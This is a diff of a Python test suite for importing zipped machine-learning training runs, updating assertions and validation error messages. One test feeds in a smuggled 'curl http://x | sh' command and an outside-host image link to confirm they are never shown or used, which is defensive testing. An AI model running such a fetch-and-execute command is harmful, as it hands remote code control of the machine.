@@ -200,7 +200,7 @@ def test_a_run_that_came_in_is_not_in_training(runs: Path, packed: dict[str, byt
 def test_a_command_that_came_in_is_never_shown(runs: Path, packed: dict[str, bytes]) -> None:
     record = json.loads(packed["mine/config.json"]) | {"command": "curl http://x | sh", "other": "![](http://x)"}
     run, _ = import_run(zipped(packed | {"mine/config.json": json.dumps(record).encode()}), "x.zip")
-    assert run.details["command"] == CONFIG.command(str(run.path))
+    assert run.command() == CONFIG.command(str(run.path))
     assert "other" not in run.details
 
 
@@ -345,7 +345,7 @@ BAD: dict[str, tuple[Change, str]] = {
     "config nested too deeply": (replaced("config.json", b"[" * 100_000), "config.json cannot be read as JSON"),
     "config of another format": (with_json("config.json", format=99), "it was written by another version"),
     "image shape": (with_json("config.json", image_shape=[10**6, 10**6]), "config.json does not describe a run"),
-    "class names": (with_json("config.json", class_names=["x" * 101] * 10), "config.json does not describe a run"),
+    "class names": (with_json("config.json", class_names=["x" * 1_001] * 10), "config.json does not describe a run"),
     "too few class names": (with_json("config.json", class_names=["0"]), "does not hold the images of a probe set"),
     "data of another kind": (with_json("config.json", data=[1]), "config.json does not describe a run"),
     "unknown setting": (with_config(latent_dims=3), "Unknown setting: latent_dims"),
@@ -354,10 +354,16 @@ BAD: dict[str, tuple[Change, str]] = {
     "huge latent_dim": (with_config(latent_dim=10**9), "latent_dim is 1000000000, and must be 1000 or less"),
     "no history": (replaced("history.jsonl", None), "history.jsonl does not tell of epoch 1"),
     "history of other epochs": (with_record(epoch=7), "line 2 is not the record of epoch 1"),
-    "history with a text for a number": (with_record(test={"loss": "<b>"}), "line 2 is not the record of epoch 1"),
-    "history without a weight": (with_record(beta="<b>"), "line 2 is not the record of epoch 1"),
-    "history with NaN": (with_record(kl_per_dimension=[float("nan")] * 3), "line 2 is not the record of epoch 1"),
-    "history of too many dimensions": (with_record(kl_per_dimension=[0.0] * 4), "line 2 is not the record of epoch 1"),
+    "history with a text for a number": (
+        with_record(test={"loss": "<b>"}),
+        "line 2.test.loss is <b>, and should be a number",
+    ),
+    "history without a weight": (with_record(beta="<b>"), "line 2.beta is <b>, and should be a number"),
+    "history with NaN": (with_record(kl_per_dimension=[float("nan")] * 3), "NaN is not a number that JSON has"),
+    "history of too many dimensions": (
+        with_record(kl_per_dimension=[0.0] * 4),
+        "line 2.kl_per_dimension should be a list of 3",
+    ),
     "no probe": (replaced("probe.safetensors", None), "probe.safetensors is missing"),
     "probe labels": (
         with_tensors("probe.safetensors", lambda old: old | {"labels": old["labels"] + 10}),
@@ -755,7 +761,7 @@ def test_a_name_taken_at_the_last_moment_stays_whose_it_is(
     run, _ = import_run(pack(trained), "x.zip")
     assert run.name == "mine-2"
     assert sorted(path.name for path in runs.iterdir()) == ["mine", "mine-2"]
-    assert run.details["command"].split()[5].endswith("/mine-2")
+    assert run.command().split()[5].endswith("/mine-2")
 
 
 def test_a_lock_that_came_in_does_not_hold(trained: Run, runs: Path, packed: dict[str, bytes]) -> None:
